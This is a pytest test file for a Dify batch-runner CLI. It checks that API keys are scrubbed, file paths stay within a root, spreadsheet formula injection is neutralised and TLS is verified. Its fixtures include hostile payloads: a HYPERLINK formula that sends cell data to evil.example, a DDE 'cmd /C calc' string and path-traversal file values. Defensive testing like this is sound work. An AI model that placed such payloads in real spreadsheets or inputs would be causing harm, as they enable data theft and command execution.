"""Security end to end: the API key never leaves the environment and the Authorization header, file columns cannot read
outside the files root, spreadsheet formulas in model outputs are neutralised, TLS is verified unless --insecure.
"""

from __future__ import annotations

import hashlib
import json
import logging
import shutil
import socket
import subprocess
import threading
import time
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

import runner.job
from runner.errors import AuthError
from runner.job import run_job
from runner.simulator import FaultRule, Latency, Simulator, workflow_outputs
from runner.spec import build_spec

from .conftest import FORM, invoke, read_csv, run_args, sim_config, start_server, texts_csv, write_csv

KEY = "app-Zq7Kx9Wv3Ty8Rm2Pn5Ls4Hd"  # distinctive: any trace of it in a file or a message is a leak
WRONG_KEY = "app-WRONG-Ej4Uf6Ig8Oh0Yk1Xb"
SECRETS = (KEY, KEY.removeprefix("app-"), WRONG_KEY, WRONG_KEY.removeprefix("app-"))


def leaks(text: str | bytes) -> list[str]:
    data = text.encode("utf-8", "replace") if isinstance(text, str) else text
    return [secret for secret in SECRETS if secret.encode() in data]


def leaky_files(folder: Path) -> dict[str, list[str]]:
    """Every file under `folder` (outputs, errors report, state SQLite with -wal/-shm, summary JSON) holding a key."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and leaks(path.read_bytes()):
            found[str(path.relative_to(folder))] = leaks(path.read_bytes())
    return found


class StateWatcher:
    """Reads the checkpoint's files (SQLite main file, -wal, -shm) over and over while a job runs."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.found: set[str] = set()
        self.reads = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def __enter__(self) -> StateWatcher:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(5)

    def _watch(self) -> None:
        while not self._stop.wait(0.005):
            for path in self.folder.glob("*.sqlite*"):
                try:
                    data = path.read_bytes()
                except OSError:
                    continue
                self.reads += 1
                if leaks(data):
                    self.found.add(path.name)


@pytest.fixture
def key_env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DIFY_API_KEY", KEY)


# ---- the API key ------------------------------------------------------------------------------------------------


def test_api_key_is_in_no_file_output_log_or_message_across_good_faulty_and_refused_runs(
    tmp_path: Path, key_env: None, fast_backoff: None, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    rows = [[f"{i}", f"text {i}" + (" POISON" if i == 3 else " EVENTFAIL" if i == 5 else "")] for i in range(12)]
    write_csv(tmp_path / "in.csv", ["id", "text"], rows)
    faults = [FaultRule("failed_run", match="POISON"), FaultRule("error_event", match="EVENTFAIL"),
              FaultRule("500", probability=0.3, times=1), FaultRule("drop_stream", probability=0.3, times=1),
              FaultRule("429", probability=0.2, times=1)]
    outputs: list[str] = []
    with start_server(api_key=KEY, faults=faults, seed=4, latency=Latency("fixed", 0.02)) as srv:
        with StateWatcher(tmp_path) as watcher:
            good = invoke(*run_args(srv, "--input", "in.csv", "--output", "good.csv", "--limit", "3",
                                    "--summary-json", "good.json"))
            faulty = invoke(*run_args(srv, "--input", "in.csv", "--output", "faulty.xlsx", "--max-attempts", "3",
                                      "--summary-json", "faulty.json", "--key-column", "id"))
            monkeypatch.setenv("DIFY_API_KEY", WRONG_KEY)
            refused = invoke(*run_args(srv, "--input", "in.csv", "--output", "refused.csv", "--fresh"))
            with pytest.raises(AuthError) as debug:  # --debug shows the traceback: that must be clean too
                invoke(*run_args(srv, "--input", "in.csv", "--output", "refused.csv", "--debug"))
        assert srv.sim.count("/parameters", outcome="401") == 2
        outputs += [good.output, faulty.output, refused.output]
    assert good.exit_code == 0, good.output
    assert faulty.exit_code == 3, faulty.output
    assert refused.exit_code == 1 and "401" in refused.output and "DIFY_API_KEY" in refused.output
    assert (tmp_path / "faulty.errors.csv").read_text(encoding="utf-8-sig").count("\n") == 3  # header + 2 rows
    assert watcher.reads > 0 and not watcher.found  # the WAL mid-run included
    produced = {p.name for p in tmp_path.iterdir()}
    assert {"good.csv", "good.json", "good.errors.csv", "good.csv.state.sqlite", "faulty.xlsx", "faulty.json",
            "faulty.errors.csv", "faulty.xlsx.state.sqlite"} <= produced
    assert leaky_files(tmp_path) == {}
    assert [leaks(text) for text in outputs] == [[], [], []]
    assert leaks(caplog.text) == []
    error = debug.value
    shown = "".join(traceback.format_exception(error)) + repr(error) + str(error)
    assert leaks(shown) == [] and "401" in shown


def echoing_dify(run_answer: Callable[[dict[str, Any], str], httpx.Response]) -> httpx.MockTransport:
    """A Dify whose answers quote the Authorization header back (a misconfigured proxy, a chatty node error)."""

    def handler(request: httpx.Request) -> httpx.Response:
        auth = request.headers.get("authorization", "")
        path = request.url.path.removeprefix("/v1")
        if path == "/parameters":
            return httpx.Response(200, json={"user_input_form": FORM, "system_parameters": {}})
        if path == "/info":
            return httpx.Response(200, json={"name": "echo", "mode": "workflow"})
        if path == "/workflows/run":
            return run_answer(json.loads(request.content), auth)
        return httpx.Response(404, json={"code": "not_found", "message": f"no route ({auth})", "status": 404})

    return httpx.MockTransport(handler)


def sse(*frames: dict[str, Any]) -> httpx.Response:
    body = "".join(f"data: {json.dumps(frame)}\n\n" for frame in frames)
    return httpx.Response(200, headers={"content-type": "text/event-stream"}, content=body.encode())


def run_frames(run_id: str, status: str, outputs: dict[str, Any], error: str | None = None) -> httpx.Response:
    started = {"event": "workflow_started", "task_id": "t-" + run_id, "workflow_run_id": run_id,
               "data": {"id": run_id, "workflow_id": "wf", "inputs": {}, "created_at": 1}}
    finished = {"event": "workflow_finished", "task_id": "t-" + run_id, "workflow_run_id": run_id,
                "data": {"id": run_id, "workflow_id": "wf", "status": status, "outputs": outputs, "error": error,
                         "elapsed_time": 0.1, "total_tokens": 7, "total_steps": 3, "created_at": 1, "finished_at": 2}}
    return sse(started, finished)


def spec_for(tmp_path: Path, output: str, **values: Any) -> Any:
    return build_spec(None, {"input": tmp_path / "in.csv", "output": tmp_path / output,
                             "base_url": "http://dify.example.com/v1", "max_attempts": 1, **values}, env={})


def test_key_echoed_back_by_the_server_is_scrubbed_from_every_result(tmp_path: Path, key_env: None) -> None:
    def answer(body: dict[str, Any], auth: str) -> httpx.Response:
        assert auth == f"Bearer {KEY}"  # read from the environment
        text = body["inputs"]["text"]
        if text == "bad param":
            return httpx.Response(400, json={"code": "invalid_param", "message": f"bad header {auth}", "status": 400})
        if text == "event error":
            return sse({"event": "error", "workflow_run_id": "r2", "code": "invalid_param", "status": 400,
                        "message": f"node HTTP request sent {auth}"})
        return run_frames("r1", "succeeded", {"text": "ok"})

    write_csv(tmp_path / "in.csv", ["text"], [["fine"], ["bad param"], ["event error"]])
    summary = run_job(spec_for(tmp_path, "out.csv"), transport=echoing_dify(answer))
    runner.job.write_summary_json(tmp_path / "summary.json", summary)
    assert (summary.succeeded, summary.failed) == (1, 2)
    report = read_csv(tmp_path / "out.errors.csv")
    assert [r["error_code"] for r in report] == ["invalid_param", "invalid_param"]
    assert all("***" in r["message"] for r in report)
    assert leaky_files(tmp_path) == {} and leaks(repr(summary)) == []


def test_key_echoed_in_a_failed_run_error_is_scrubbed(tmp_path: Path, key_env: None) -> None:
    def answer(body: dict[str, Any], auth: str) -> httpx.Response:
        return run_frames("r3", "failed", {}, error=f"Node HTTP Request failed: 401 for header {auth}")

    write_csv(tmp_path / "in.csv", ["text"], [["node echoes the key"]])
    summary = run_job(spec_for(tmp_path, "out.csv"), transport=echoing_dify(answer))
    assert summary.failed == 1
    assert "Node HTTP Request failed" in read_csv(tmp_path / "out.errors.csv")[0]["message"]
    assert leaky_files(tmp_path) == {}


def test_api_key_is_refused_in_a_job_file_and_there_is_no_key_flag(tmp_path: Path) -> None:
    texts_csv(tmp_path / "in.csv", 1)
    (tmp_path / "job.toml").write_text(f'input = "in.csv"\noutput = "out.csv"\napi_key = "{KEY}"\n', encoding="utf-8")
    in_file = invoke("run", "job.toml")
    assert in_file.exit_code == 2 and "do not put the API key in a job file" in in_file.output
    as_flag = invoke("run", "--input", "in.csv", "--output", "out.csv", "--api-key", KEY)
    assert as_flag.exit_code == 2 and "Error: No such option '--api-key'" in as_flag.output
    assert leaks(in_file.output + as_flag.output) == []


# ---- file columns stay inside the files root ------------------------------------------------------------------

FILE_FORM = [
    {"text-input": {"variable": "text", "label": "Text", "type": "text-input", "required": True}},
    {"file": {"variable": "doc", "label": "Doc", "type": "file", "required": False,
              "allowed_file_types": ["document"], "allowed_file_upload_methods": ["local_file", "remote_url"]}},
    {"file-list": {"variable": "docs", "label": "Docs", "type": "file-list", "required": False, "max_length": 3,
                   "allowed_file_types": ["document"], "allowed_file_upload_methods": ["local_file"]}},
]


def test_file_columns_cannot_read_outside_the_files_root(tmp_path: Path) -> None:
    """Complements test_chat_files (../ and a symlinked file): absolute paths, a symlinked folder, a traversal hidden
    in a file-list, file:// URLs — each row fails naming its path, and not one byte of the secret is uploaded."""
    root = tmp_path / "files"
    root.mkdir()
    (root / "ok.pdf").write_bytes(b"%PDF fine")
    outside = tmp_path / "private"
    outside.mkdir()
    secret = outside / "secret.pdf"
    secret.write_bytes(b"%PDF top secret payroll")
    (root / "shared").symlink_to(outside, target_is_directory=True)
    bad = {
        "absolute": str(secret),
        "folder link": "shared/secret.pdf",
        "file url": secret.as_uri(),
        "dotdot deep": "ok.pdf/../../private/secret.pdf",
    }
    rows = [["good", "ok.pdf", ""]] + [[name, path, ""] for name, path in bad.items()]
    rows.append(["list traversal", "", json.dumps(["ok.pdf", "../private/secret.pdf"])])
    write_csv(tmp_path / "in.csv", ["text", "doc", "docs"], rows)
    with start_server(input_form=FILE_FORM) as srv:
        result = invoke(*run_args(srv, "--input", "in.csv", "--output", "out.csv", "--files-root", root))
        uploaded = [upload["sha256"] for upload in srv.sim.uploads.values()]
        sent = [rec.inputs.get("text") for rec in srv.sim.requests if rec.endpoint == "/workflows/run" and rec.inputs]
    assert result.exit_code == 3, result.output
    out = {r["text"]: r for r in read_csv(tmp_path / "out.csv")}
    assert out["good"]["_status"] == "succeeded"
    assert out["good"]["output.text"] == workflow_outputs({"text": "good", "doc": "ok.pdf"})["text"]
    for name, path in [*bad.items(), ("list traversal", "../private/secret.pdf")]:
        assert out[name]["_status"] == "failed", name
        assert path in out[name]["_error"], (name, out[name]["_error"])
    assert hashlib.sha256(secret.read_bytes()).hexdigest() not in uploaded
    assert uploaded == [hashlib.sha256(b"%PDF fine").hexdigest()]  # ok.pdf, once
    assert sent == ["good"]  # the refused rows cost no run
    report = {r["row"]: r["error_code"] for r in read_csv(tmp_path / "out.errors.csv")}
    assert report == {str(i): "invalid_row" for i in range(2, 7)}


# ---- spreadsheet formula injection --------------------------------------------------------------------------------

HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    "plus": "+SUM(1,2)",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "number": "-5",
    "plain": "harmless",
}


def formula_dify() -> httpx.MockTransport:
    def answer(body: dict[str, Any], auth: str) -> httpx.Response:
        if body["inputs"]["text"] == "fails":
            return run_frames("r9", "failed", {}, error='=HYPERLINK("https://evil.example","node failed")')
        return run_frames("r8", "succeeded", HOSTILE)

    return echoing_dify(answer)


@pytest.fixture
def fake_server_cli(monkeypatch: pytest.MonkeyPatch) -> None:
    """`dify-batch run` in-process, talking to `formula_dify` instead of a socket (the simulator never answers '=…')."""
    make_client = runner.job.make_client
    monkeypatch.setattr(runner.job, "make_client", lambda spec, key, transport=None: make_client(spec, key, formula_dify()))


def cli_with_fake(*args: str) -> Any:
    return invoke("run", "--base-url", "https://dify.example.com/v1", "--no-progress", "--input", "in.csv", *args)


NEUTRALISED = {name: ("'" + value if name not in ("number", "plain") else value) for name, value in HOSTILE.items()}


def test_formulas_in_model_outputs_are_neutralised_in_xlsx_and_safe_csv(tmp_path: Path, fake_server_cli: None) -> None:
    import openpyxl

    write_csv(tmp_path / "in.csv", ["id", "text"], [["1", "=1+1"], ["2", "normal"]])
    assert cli_with_fake("--output", "out.xlsx").exit_code == 0
    assert cli_with_fake("--output", "safe.csv", "--safe-csv").exit_code == 0
    assert cli_with_fake("--output", "raw.csv").exit_code == 0
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(header, row, strict=True))
        assert {name: cells[name].value for name in HOSTILE} == NEUTRALISED
        assert all(cell.data_type != "f" for cell in row)  # no formula cell at all, input "=1+1" included
    for row in read_csv(tmp_path / "safe.csv"):
        assert {name: row[name] for name in HOSTILE} == NEUTRALISED
    for row in read_csv(tmp_path / "raw.csv"):  # plain CSV stays byte-faithful unless --safe-csv
        assert {name: row[name] for name in HOSTILE} == HOSTILE


def test_formula_in_a_failed_runs_error_is_neutralised_with_safe_csv(tmp_path: Path, fake_server_cli: None) -> None:
    write_csv(tmp_path / "in.csv", ["id", "text"], [["1", "fails"]])
    assert cli_with_fake("--output", "safe.csv", "--safe-csv").exit_code == 3
    assert read_csv(tmp_path / "safe.csv")[0]["_error"].startswith("'=HYPERLINK(")
    assert read_csv(tmp_path / "safe.errors.csv")[0]["message"].startswith("'=HYPERLINK(")


# ---- transport security -------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def self_signed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    if shutil.which("openssl") is None:
        pytest.skip("openssl is not installed")
    folder = tmp_path_factory.mktemp("tls")
    cert, key = folder / "cert.pem", folder / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
                    "-keyout", str(key), "-out", str(cert), "-days", "1", "-subj", "/CN=127.0.0.1",
                    "-addext", "subjectAltName=IP:127.0.0.1"], check=True, capture_output=True)
    return cert, key


@pytest.fixture
def tls_server(self_signed: tuple[Path, Path]) -> Iterator[tuple[str, Simulator]]:
    """The simulator behind HTTPS with a self-signed certificate, on loopback."""
    import uvicorn

    sim = Simulator(sim_config())
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    config = uvicorn.Config(sim.app, ssl_certfile=str(self_signed[0]), ssl_keyfile=str(self_signed[1]),
                            log_level="critical", access_log=False, lifespan="off", http="h11", ws="none")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.01)
    yield f"https://127.0.0.1:{port}/v1", sim
    server.should_exit = True
    thread.join(10)
    sock.close()


def test_tls_is_verified_by_default_and_insecure_warns(tmp_path: Path, tls_server: tuple[str, Simulator]) -> None:
    url, sim = tls_server
    texts_csv(tmp_path / "in.csv", 3)
    refused = invoke("run", "--base-url", url, "--input", "in.csv", "--output", "out.csv", "--no-progress")
    assert refused.exit_code == 1, refused.output
    assert refused.output.startswith(f"Error: cannot connect to {url}: TLS error: ")
    assert "CERTIFICATE_VERIFY_FAILED" in refused.output
    assert sim.count() == 0  # not one request got through the handshake
    insecure = invoke("run", "--base-url", url, "--input", "in.csv", "--output", "out.csv", "--no-progress",
                      "--insecure")
    assert insecure.exit_code == 0, insecure.output
    assert insecure.stderr.splitlines() == ["warning: --insecure: TLS certificates are not verified"]
    assert sim.count("/workflows/run", outcome="succeeded") == 3


def test_plain_http_to_a_remote_host_warns_the_key_travels_in_clear(tmp_path: Path) -> None:
    texts_csv(tmp_path / "in.csv", 1)
    remote = "http://0.0.0.0:9/v1"  # not a loopback address, yet nothing leaves this machine (refused at once)
    result = invoke("run", "--base-url", remote, "--input", "in.csv", "--output", "out.csv", "--no-progress")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"warning: {remote} is plain http: the API key travels in clear text; use https",
        f"Error: cannot connect to {remote}: connection refused",
    ]
    with start_server() as srv:
        for n, base in enumerate((srv.url, srv.url.replace("127.0.0.1", "localhost"))):
            local = invoke("run", "--base-url", base, "--input", "in.csv", "--output", f"local{n}.csv", "--no-progress")
            assert local.exit_code == 0 and "warning" not in local.output, local.output
    notices: list[str] = []
    write_csv(tmp_path / "in.csv", ["text"], [["fine"]])
    run_job(spec_for(tmp_path, "remote.csv"), api_key=KEY, on_notice=notices.append,
            transport=echoing_dify(lambda body, auth: run_frames("r1", "succeeded", {"text": "ok"})))
    assert notices == ["warning: http://dify.example.com/v1 is plain http: the API key travels in clear text; use https"]
